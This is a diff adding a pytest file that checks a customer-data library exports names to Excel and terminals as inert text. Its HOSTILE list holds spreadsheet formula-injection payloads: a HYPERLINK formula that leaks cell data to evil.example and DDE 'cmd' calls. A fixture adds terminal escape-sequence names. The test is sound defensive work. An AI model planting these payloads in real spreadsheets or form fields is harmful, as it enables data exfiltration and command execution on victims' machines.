@@ -1,0 +1,107 @@
+"""Exports and prints of data: inert in a spreadsheet and a terminal, readable in Excel.
+
+A first name is whatever a store clerk or a sign-up form typed: text that a spreadsheet would run
+(a formula, a DDE call) or a terminal would obey (ESC, BEL, a carriage return) is written as text.
+"""
+
+from __future__ import annotations
+
+import io
+from pathlib import Path
+
+import openpyxl
+from openpyxl.utils.escape import unescape
+import polars as pl
+import pytest
+
+import capframe
+from capframe.cli import main
+from capframe.sandbox import _org
+
+# What a spreadsheet would execute or follow, one per customer.
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "{=1+1}",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "https://evil.example/x",
+)
+
+
+@pytest.fixture(scope="module")
+def client() -> capframe.Client:
+    return capframe.Client.sandbox(customers=1_000, seed=0)
+
+
+@pytest.fixture(scope="module")
+def hostile(client: capframe.Client) -> capframe.CustomerTables:
+    """Returned customers whose first names are :data:`HOSTILE`, in that order."""
+    org = client.sandbox_org
+    assert org is not None
+    tables = capframe.fetch_customer_tables(org.customer_ids(60), "INSTORE", client=client, progress=False).returned()
+    customers = tables.customers.head(len(HOSTILE)).with_columns(first_name=pl.Series(HOSTILE))
+    return capframe.CustomerTables.of({**tables.tables(), "customers": customers}, tables.provenance)
+
+
+@pytest.fixture
+def hostile_sandbox(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The sandbox's synthetic customers are named with :data:`HOSTILE` (and an ESC, a BEL, a new line)."""
+    monkeypatch.setattr(_org, "_FIRST", (*HOSTILE, "Ann\x1b[8m hidden", "Bo\x07b", "Cy\nforged line"))
+
+
+def run(*argv: str) -> tuple[int, str]:
+    out = io.StringIO()
+    return main(list(argv), out=out), out.getvalue()
+
+
+def _ids_file(tmp_path: Path, client: capframe.Client, count: int = 200) -> Path:
+    assert client.sandbox_org is not None
+    ids = tmp_path / "ids.txt"
+    ids.write_text("\n".join(map(str, client.sandbox_org.customer_ids(count))))
+    return ids
+
+
+def _cells(path: Path, sheet: str, column: str) -> list[openpyxl.cell.Cell]:
+    rows = list(openpyxl.load_workbook(path)[sheet].iter_rows())
+    index = [cell.value for cell in rows[0]].index(column)
+    return [row[index] for row in rows[1:]]
+
+
+def _text(cell: openpyxl.cell.Cell) -> object:
+    """The text Excel shows: a workbook stores a CR as ``_x000D_``, which openpyxl leaves as it is."""
+    return unescape(cell.value) if isinstance(cell.value, str) else cell.value
+
+
+def _no_formula_and_no_link(path: Path) -> None:
+    for sheet in openpyxl.load_workbook(path):
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                assert cell.hyperlink is None, (sheet.title, cell.coordinate, cell.value)
+
+
+# --- Excel: every text is a text cell -----------------------------------------------------------
+
+
+def test_write_excel_writes_text_that_looks_like_a_formula_or_a_link_as_text(
+    hostile: capframe.CustomerTables, tmp_path: Path
+) -> None:
+    path = hostile.write_excel(tmp_path / "report.xlsx")
+    _no_formula_and_no_link(path)
+    names = _cells(path, "customers", "first_name")[: len(HOSTILE)]
+    assert [_text(cell) for cell in names] == list(HOSTILE)
+    assert {cell.data_type for cell in names} == {"s"}
+
+
+def test_the_cli_workbook_writes_text_that_looks_like_a_formula_as_text(
+    hostile_sandbox: None, client: capframe.Client, tmp_path: Path
+) -> None:
+    code, _ = run("customers", "--ids", str(_ids_file(tmp_path, client)), "--sandbox", "-o", str(tmp_path / "r.xlsx"))
+    assert code == 0
+    _no_formula_and_no_link(tmp_path / "r.xlsx")
+    names = {_text(cell) for cell in _cells(tmp_path / "r.xlsx", "customers", "first_name")}
+    assert set(HOSTILE) <= names
